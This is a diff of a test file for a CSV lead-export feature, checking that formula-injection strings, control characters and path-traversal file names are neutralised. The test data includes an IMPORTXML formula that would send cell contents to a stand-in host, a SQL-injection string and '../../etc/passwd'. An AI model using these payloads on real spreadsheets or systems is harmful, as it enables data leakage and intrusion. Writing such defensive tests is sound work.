@@ -1,4 +1,4 @@
-import { describe, expect, test } from 'vitest';
+import { expect, test } from 'vitest';
 
 import { csvFileName, leadsCsv } from '@/desk/export/csv';
 import { type LeadFilter, NO_FILTER } from '@/desk/model/filter';
@@ -44,7 +44,7 @@ test('the file has a header in the specified order, then the leads in theirs, wi
 });
 
 test('the file adds the follow-up columns after the id once follow-ups are loaded', () => {
-  const answered = { state: 'Contacted', ownerName: 'Maya', firstContactAt: at('2026-11-20 16:09') } as const;
+  const answered = { state: 'Contacted', ownerName: 'Maya', firstContactAt: at('16:09') } as const;
   const followUps = [followUp('8', answered), followUp('9', answered), followUp('10', { state: 'Lost' })];
   const leads = [lead({ id: '7' }), lead({ id: '8' }), lead({ id: '9', createdAt: Number.NaN }), lead({ id: '10' })];
   const csv = leadsCsv(leads, new Map(followUps.map((row) => [row.leadId, row])));
@@ -64,84 +64,70 @@ test('the file is UTF-8 after a byte order mark, and keeps quotes, commas and li
   expect([...new TextEncoder().encode(csv).subarray(0, 4)]).toEqual([0xef, 0xbb, 0xbf, 0x22]);
 });
 
-describe('hostile text', () => {
-  /** Hostile strings that a spreadsheet may evaluate or round, such as phone numbers. */
-  const formulas = new Set(
-    '=HYPERLINK("http://x","y")|=IMPORTXML("http://x/?"&A1,"//a")|+971 50 123 4567|+971501234567|-2+3|@SUM(1)|\t=1| =1|\u00a0=1|＝1|007'.split(
-      '|',
-    ),
+/** A text that a spreadsheet may evaluate. */
+const FORMULA = /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u;
+
+test('every hostile string is written as text: nothing but apostrophes is added', () => {
+  const given = HOSTILE.map(({ given }) => given);
+  const leads = given.map((text, index) =>
+    lead({ id: String(index), name: text, email: text, phone: text, service: text, source: text, message: text }),
   );
-  /** Hostile strings with a formula after a separator, and how the file contains each. */
-  const innerFormulas = new Map([
-    ['\r=1', "'\n'=1"],
-    ['\n=1', "'\n'=1"],
-    ['"; drop table lead_form;--', '"; drop table lead_form;\'--'],
-  ]);
+  const plain = (text = '') => text.replaceAll("'", '');
+  for (const column of ['Name', 'Phone', 'Email', 'Inquiry', 'Source', 'Message']) {
+    const written = leadsIn(csvOf(...leads)).map((row) => row[column] ?? '');
+    expect(written.map(plain)).toEqual(HOSTILE.map(({ given, sent = given, shown = sent }) => plain(shown)));
+    expect(written.filter((text) => FORMULA.test(text))).toEqual([]);
+  }
+});
 
-  test('every hostile string is written as text, and formulas get a leading apostrophe', () => {
-    const leads = HOSTILE.map(({ given }, index) =>
-      lead({ id: String(index), name: given, email: given, phone: given, service: given, source: given, message: given }),
-    );
-    const expected = HOSTILE.map(({ given, sent = given, shown = sent }, index) => {
-      const text = innerFormulas.get(given) ?? (formulas.has(given) ? `'${shown}` : shown);
-      const texts = { Name: text, Phone: text, Email: text, Inquiry: text, Source: text, Message: text };
-      return { ...texts, Date: '2026-11-20 14:08:00', Id: String(index) };
-    });
-    expect(leadsIn(csvOf(...leads))).toMatchObject(expected);
-  });
+const marked = '\u200b=1|\ufeff+1|\u202e-1|＠SUM(1)|0501112234|050 111 2234|00971501112234|971501112234';
+const unchanged =
+  '501112234|0 to 5|Hana - new|mariam+lips@example.com|Jean-Luc, 10-15 o’clock; semi-permanent - or not|' +
+  'فاطمة، أريد - شكراً|04 123 4567, +971 50 123 4567|050 1234567;+971501234567\n+97141234567';
 
-  const marked = '\u200b=1|\ufeff+1|\u202e-1|＠SUM(1)|0501112234|050 111 2234|00971501112234|971501112234';
-  const unchanged =
-    '501112234|0 to 5|Hana - new|mariam+lips@example.com|Jean-Luc, 10-15 o’clock; semi-permanent - or not|' +
-    'فاطمة، أريد - شكراً|04 123 4567, +971 50 123 4567|050 1234567;+971501234567\n+97141234567';
+test.each<readonly [string, string]>([
+  ...marked.split('|').map((text) => [text, `'${text}`] as const),
+  // Names, numbers that a spreadsheet does not change, and prose.
+  ...unchanged.split('|').map((text) => [text, text] as const),
+  ['\u0000=1', "'=1"],
+  ['\u001b[31m=1', '[31m=1'],
+  ['two\n= three', "two\n'= three"],
+  ['x;=1+1', "x;'=1+1"],
+  ['x,=1+1', "x,'=1+1"],
+  ['x;-1+1', "x;'-1+1"],
+  ['x; @SUM(1)', "x; '@SUM(1)"],
+  ['x;＝1', "x;'＝1"],
+  ['";=1+1', '";\'=1+1'],
+  ['x;"=1+1', 'x;"\'=1+1'],
+  ['\n"=1+1', "'\n\"'=1+1"],
+  ['x\r\n\u200b=1+1', "x\n\u200b'=1+1"],
+  ['x;;=1;=2', "x;;'=1;'=2"],
+  ['x\t=1', 'x =1'],
+  ['x;+1+1', "x;'+1+1"],
+  ['x;+971-50-123', "x;'+971-50-123"],
+  ['I would like:\n- brows', "I would like:\n'- brows"],
+])('the text %j is written as %j', (given, written) => {
+  expect(leadsIn(csvOf(lead({ id: '1', name: given })))[0]?.['Name']).toBe(written);
+});
 
-  test.each<readonly [string, string]>([
-    ...marked.split('|').map((text) => [text, `'${text}`] as const),
-    // Names, numbers that a spreadsheet does not change, and prose.
-    ...unchanged.split('|').map((text) => [text, text] as const),
-    ['\u0000=1', "'=1"],
-    ['\u001b[31m=1', '[31m=1'],
-    ['two\n= three', "two\n'= three"],
-    ['x;=1+1', "x;'=1+1"],
-    ['x,=1+1', "x,'=1+1"],
-    ['x;-1+1', "x;'-1+1"],
-    ['x; @SUM(1)', "x; '@SUM(1)"],
-    ['x;＝1', "x;'＝1"],
-    ['";=1+1', '";\'=1+1'],
-    ['x;"=1+1', 'x;"\'=1+1'],
-    ['\n"=1+1', "'\n\"'=1+1"],
-    ['x\r\n\u200b=1+1', "x\n\u200b'=1+1"],
-    ['x;;=1;=2', "x;;'=1;'=2"],
-    ['x\t=1', 'x =1'],
-    ['x;+1+1', "x;'+1+1"],
-    ['x;+971-50-123', "x;'+971-50-123"],
-    ['I would like:\n- brows', "I would like:\n'- brows"],
-  ])('%j is written as %j', (given, written) => {
-    expect(leadsIn(csvOf(lead({ id: '1', name: given })))[0]?.['Name']).toBe(written);
-  });
+test.each([',', ';', '\t'])('if lines are split at %j, with or without regard to quotes, no cell begins like a formula', (separator) => {
+  const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1', '=HYPERLINK("http://x","y")'];
+  const before = ['', 'x', ';', ',', '\t', '\n', '"'].flatMap((a) => ['', ' ', '"', '""', '\n', '\u200b', ';"'].map((b) => a + b));
+  const leads = formulas.flatMap((formula, at) =>
+    before.map((text, index) => lead({ id: `${at}-${index}`, name: text + formula, phone: text, email: `${formula}${text}${formula}` })),
+  );
+  const file = csvOf(...leads).slice(1);
+  const cells = file.split(separator).join('\n').split('\n');
+  expect(cells.length).toBeGreaterThan(leads.length);
+  expect(cells.filter((cell) => FORMULA.test(cell))).toEqual([]);
+});
 
-  test.each([',', ';', '\t'])('if lines are split at %j, with or without regard to quotes, no cell begins like a formula', (separator) => {
-    const formulas = ['=1+1', '+1+1', '-1+1', '@SUM(1)', '＝1', '=HYPERLINK("http://x","y")'];
-    const before = ['', 'x', ';', ',', '\t', '\n', '"'].flatMap((a) => ['', ' ', '"', '""', '\n', '\u200b', ';"'].map((b) => a + b));
-    const leads = formulas.flatMap((formula, at) =>
-      before.map((text, index) => lead({ id: `${at}-${index}`, name: text + formula, phone: text, email: `${formula}${text}${formula}` })),
-    );
-    const cells = csvOf(...leads)
-      .slice(1)
-      .split(separator)
-      .join('\n')
-      .split('\n');
-    expect(cells.length).toBeGreaterThan(leads.length);
-    expect(cells.filter((cell) => /^["\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
-  });
-
-  test('contains no control character and no lone surrogate', () => {
-    const all = Array.from({ length: 0xa0 }, (_, code) => String.fromCodePoint(code)).join('');
-    const cell = cellsOf(csvOf(lead({ id: '1', name: `x${all}\ud800` })))[1]?.[0] ?? '';
-    expect(cell.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
-    expect(cell.isWellFormed()).toBe(true);
-    expect(cell.endsWith('~\ufffd')).toBe(true);
-  });
+test('a cell contains no control character and no lone surrogate', () => {
+  const all = Array.from({ length: 0xa0 }, (_, code) => String.fromCodePoint(code)).join('');
+  const cell = cellsOf(csvOf(lead({ id: '1', name: `x${all}\ud800` })))[1]?.[0] ?? '';
+  expect(cell.replace(/\n/g, '')).not.toMatch(/\p{Cc}/u);
+  expect(cell.isWellFormed()).toBe(true);
+  expect(cell.endsWith('~\ufffd')).toBe(true);
 });
 
 test('50,000 leads take less than a second of CPU time', () => {
@@ -154,33 +140,31 @@ test('50,000 leads take less than a second of CPU time', () => {
   expect(csv.endsWith(',"49999"\r\n')).toBe(true);
 });
 
-describe('the file name', () => {
-  // 00:30 on 21 November in Dubai.
-  const now = Date.parse('2026-11-20T20:30:00Z');
+// 00:30 on 21 November in Dubai.
+const now = Date.parse('2026-11-20T20:30:00Z');
 
-  test.each<[Partial<LeadFilter>, string]>([
-    [{}, 'leads-2026-11-21.csv'],
-    [{ source: '', service: '' }, 'leads-2026-11-21-no-source-no-inquiry.csv'],
-    [{ chip: 'Mine', overview: 'Never answered' }, 'leads-2026-11-21-mine-never-answered.csv'],
-    [{ search: 'mariam', dueVisit: 'Did they come?' }, 'leads-2026-11-21-search-did-they-come.csv'],
-    [{ search: 'mariam' }, 'leads-2026-11-21-search.csv'],
-    [{ source: 'lip-blush-dubai' }, 'leads-2026-11-21-lip-blush-dubai.csv'],
-    [{ service: 'Velvet Lips (Full Color)' }, 'leads-2026-11-21-velvet-lips-full-color.csv'],
-    [{ service: 'lip-blush', source: 'hero_booking', search: 'a' }, 'leads-2026-11-21-hero_booking-lip-blush-search.csv'],
-    [{ source: '/permanent-makeup-in-dubai' }, 'leads-2026-11-21-permanent-makeup-in-dubai.csv'],
-    [{ source: '/' }, 'leads-2026-11-21-source.csv'],
-    [{ service: '؟؟' }, 'leads-2026-11-21-inquiry.csv'],
-    [{ source: '../../etc/passwd' }, 'leads-2026-11-21-etc-passwd.csv'],
-    [{ source: 'C:\\CON.|<>*?"\u202efdp\u0000' }, 'leads-2026-11-21-c-con-fdp.csv'],
-    [{ source: 'فاطمة الزهراء' }, 'leads-2026-11-21-فاطمة-الزهراء.csv'],
-    [{ source: 'a-'.repeat(600) }, 'leads-2026-11-21-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a.csv'],
-  ])('%j: %s', (filter, name) => {
-    expect(csvFileName({ ...NO_FILTER, ...filter }, now)).toBe(name);
-  });
+test.each<[Partial<LeadFilter>, string]>([
+  [{}, 'leads-2026-11-21.csv'],
+  [{ source: '', service: '' }, 'leads-2026-11-21-no-source-no-inquiry.csv'],
+  [{ chip: 'Mine', overview: 'Never answered' }, 'leads-2026-11-21-mine-never-answered.csv'],
+  [{ search: 'mariam', dueVisit: 'Did they come?' }, 'leads-2026-11-21-search-did-they-come.csv'],
+  [{ search: 'mariam' }, 'leads-2026-11-21-search.csv'],
+  [{ source: 'lip-blush-dubai' }, 'leads-2026-11-21-lip-blush-dubai.csv'],
+  [{ service: 'Velvet Lips (Full Color)' }, 'leads-2026-11-21-velvet-lips-full-color.csv'],
+  [{ service: 'lip-blush', source: 'hero_booking', search: 'a' }, 'leads-2026-11-21-hero_booking-lip-blush-search.csv'],
+  [{ source: '/permanent-makeup-in-dubai' }, 'leads-2026-11-21-permanent-makeup-in-dubai.csv'],
+  [{ source: '/' }, 'leads-2026-11-21-source.csv'],
+  [{ service: '؟؟' }, 'leads-2026-11-21-inquiry.csv'],
+  [{ source: '../../etc/passwd' }, 'leads-2026-11-21-etc-passwd.csv'],
+  [{ source: 'C:\\CON.|<>*?"\u202efdp\u0000' }, 'leads-2026-11-21-c-con-fdp.csv'],
+  [{ source: 'فاطمة الزهراء' }, 'leads-2026-11-21-فاطمة-الزهراء.csv'],
+  [{ source: 'a-'.repeat(600) }, 'leads-2026-11-21-a-a-a-a-a-a-a-a-a-a-a-a-a-a-a.csv'],
+])('the file name for %j is %s', (filter, name) => {
+  expect(csvFileName({ ...NO_FILTER, ...filter }, now)).toBe(name);
+});
 
-  test.each(HOSTILE.map(({ given }) => given))('the source %j results in a file name that every operating system accepts', (source) => {
-    const name = csvFileName({ ...NO_FILTER, source, service: source, search: source }, now);
-    expect(name).toMatch(/^leads-2026-11-21-[\p{L}\p{N}_][\p{L}\p{N}_-]*\.csv$/u);
-    expect(new TextEncoder().encode(name).length).toBeLessThan(256);
-  });
+test.each(HOSTILE.map(({ given }) => given))('the source %j gives a file name that every system accepts', (source) => {
+  const name = csvFileName({ ...NO_FILTER, source, service: source, search: source }, now);
+  expect(name).toMatch(/^leads-2026-11-21-[\p{L}\p{N}_][\p{L}\p{N}_-]*\.csv$/u);
+  expect(new TextEncoder().encode(name).length).toBeLessThan(256);
 });
